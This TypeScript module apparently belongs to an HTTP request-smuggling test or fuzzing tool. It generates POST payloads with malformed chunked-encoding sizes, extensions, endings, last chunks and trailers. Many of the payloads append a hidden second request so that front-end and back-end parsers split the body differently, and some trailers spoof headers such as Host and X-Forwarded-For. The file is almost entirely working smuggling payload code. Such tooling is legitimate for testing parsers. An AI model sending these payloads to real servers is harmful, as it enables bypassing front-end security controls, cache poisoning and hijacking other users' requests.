import { type AttackClass, hidden, post } from '../payload.ts'

// Chunked bodies: sizes, extensions, ends and trailers that readers take differently.

const FIELD = 'Transfer-Encoding: chunked\r\n'

/** Spellings of the size of `abcde`. */
const SIZES = [
  '5',
  '05',
  '0000000000000005',
  '00000000000000000000000000000005',
  '+5',
  '-5',
  '0x5',
  '0X5',
  'x5',
  '5h',
  '5 ',
  ' 5',
  '\t5',
  '5\t',
  '5 \t ',
  '5\x0b',
  '5\x0c',
  '5\0',
  '\x005',
  '5\xa0',
  '5g',
  'g',
  '',
  '5.0',
  '5,',
  '5_',
  '5_0',
  '5 5',
  '5:',
  '"5"',
  '100000005',
  '10000000000000005',
  '100000000000000000000000000000005',
  'FFFFFFFFFFFFFFFB',
  'FFFFFFFFFFFFFFFF',
  '7FFFFFFFFFFFFFFF',
  'fffffffffffffffb',
  '\xef\xbc\x95',
  '5\r',
  '\r5',
  '\r\n5',
  '\n5',
]

/** What may follow a size before its CRLF. */
const EXTENSIONS = [
  ';',
  ';a',
  ';a=b',
  ';a="b"',
  '; a = b',
  ' ;a=b',
  '\t;a=b',
  ';a;b;c',
  ';a=b;c=d',
  ';;',
  ';=',
  ';=b',
  ';a=',
  ';a="',
  ';a="\r\n',
  ';a="b\\"c"',
  ';a=b"c',
  ';a\0',
  ';a\x0b',
  ';a\xff',
  ';a\r',
  ';\r',
  ';\n',
  ';a\n',
  ';a=\n',
  ';a="\n"',
  ';a\r\r',
  ';a\n\r',
  ' a',
  ' a=b',
  ',a',
  '/a',
  '\\a',
  '#a',
  `;${'a'.repeat(400)}`,
  `;a="${'b'.repeat(400)}"`,
  ';a=b\r\n ',
  ';\x85',
]

/** What may follow the data of a chunk. */
const ENDS = [
  '',
  '\r',
  '\n',
  '\r\r\n',
  '\n\r',
  '\r\n\r\n',
  '\n\n',
  'XX',
  '\r\nX',
  'X\r\n',
  ' \r\n',
  '\0\r\n',
  '\x85',
]

/** Spellings of the last chunk and its end. */
const LAST = [
  '0\r\n\r\n',
  '00\r\n\r\n',
  '0000000000000000000\r\n\r\n',
  '0;a\r\n\r\n',
  '0;a=b\r\n\r\n',
  '0 \r\n\r\n',
  ' 0\r\n\r\n',
  '-0\r\n\r\n',
  '+0\r\n\r\n',
  '0x0\r\n\r\n',
  '0\n\n',
  '0\r\n\n',
  '0\n\r\n',
  '0\r\r',
  '0\r\n\r',
  '0\r\n',
  '0\n',
  '0\r\n\r\r\n',
  '0\r\nX',
  '\r\n\r\n',
  '\r\n0\r\n\r\n',
  '0\r\n \r\n',
  '0\r\n\0\r\n',
  '0,\r\n\r\n',
  '0\0\r\n\r\n',
  '0;\n\r\n\r\n',
  '0;"\r\n\r\n',
]

const TRAILERS = [
  'X: a',
  'X: a\r\nY: b',
  'Content-Length: 9',
  'Content-Length: 0',
  'Transfer-Encoding: chunked',
  'Transfer-Encoding: identity',
  'Host: email.other.test',
  'Connection: close',
  'X-Forwarded-For: 6.6.6.6',
  'Authorization: trailer',
  'X',
  'X :a',
  ' X: a',
  ': a',
  'X: a\r\n b',
  'X: a\nY: b',
  'X: a\rY: b',
  'X: a\0',
  'X\0: a',
  'X_Y: a',
  'X: \xff',
  'GET /trailer HTTP/1.1',
  `X: ${'a'.repeat(4000)}`,
  'A: b\r\n'.repeat(60).trimEnd(),
  'Trailer: X',
  'Upgrade: websocket',
]

const body = (size: string, extension = '', ending = '\r\n', last = '0\r\n\r\n'): string =>
  `${size}${extension}\r\nabcde${ending}${last}`

const sizes: AttackClass = {
  class: 'chunk-size',
  payloads: [
    ...SIZES.map((size) => (at: string) => post(at, FIELD, body(size))),
    // A size that one reader takes for more, another for less, than what is hidden behind it.
    ...SIZES.map(
      (size) => (at: string) =>
        post(
          at,
          FIELD,
          `${size}\r\nabcde\r\n${hidden(at).length.toString(16)}\r\n${hidden(at)}\r\n0\r\n\r\n`,
        ),
    ),
  ],
}

const extensions: AttackClass = {
  class: 'chunk-extension',
  payloads: [
    ...EXTENSIONS.map((extension) => (at: string) => post(at, FIELD, body('5', extension))),
    ...EXTENSIONS.map(
      (extension) => (at: string) =>
        post(at, FIELD, `5\r\nabcde\r\n0${extension}\r\n\r\n${hidden(at)}`),
    ),
    // A reader that ends the line at LF sees the last chunk and a request; one that does not, data.
    (at) =>
      post(at, FIELD, `2;\nxx\r\n${hidden(at).length.toString(16)}\r\n0\r\n\r\n${hidden(at)}`),
    (at) => post(at, FIELD, `5;\nabc\r\n0\r\n\r\n${hidden(at)}`),
  ],
}

const ends: AttackClass = {
  class: 'chunk-end',
  payloads: [
    ...ENDS.map((ending) => (at: string) => post(at, FIELD, body('5', '', ending))),
    ...ENDS.map(
      (ending) => (at: string) =>
        post(
          at,
          FIELD,
          `5\r\nabcde${ending}${hidden(at).length.toString(16)}\r\n${hidden(at)}\r\n0\r\n\r\n`,
        ),
    ),
    ...LAST.map((last) => (at: string) => post(at, FIELD, body('5', '', '\r\n', last))),
    ...LAST.map((last) => (at: string) => post(at, FIELD, last + hidden(at))),
  ],
}

const trailers: AttackClass = {
  class: 'chunk-trailer',
  payloads: [
    ...TRAILERS.map(
      (trailer) => (at: string) => post(at, FIELD, `5\r\nabcde\r\n0\r\n${trailer}\r\n\r\n`),
    ),
    ...TRAILERS.map(
      (trailer) => (at: string) =>
        post(at, `Trailer: X\r\n${FIELD}`, `0\r\n${trailer}\r\n\r\n${hidden(at)}`),
    ),
  ],
}

/** Attacks on chunks. */
export const CHUNKS: readonly AttackClass[] = [sizes, extensions, ends, trailers]
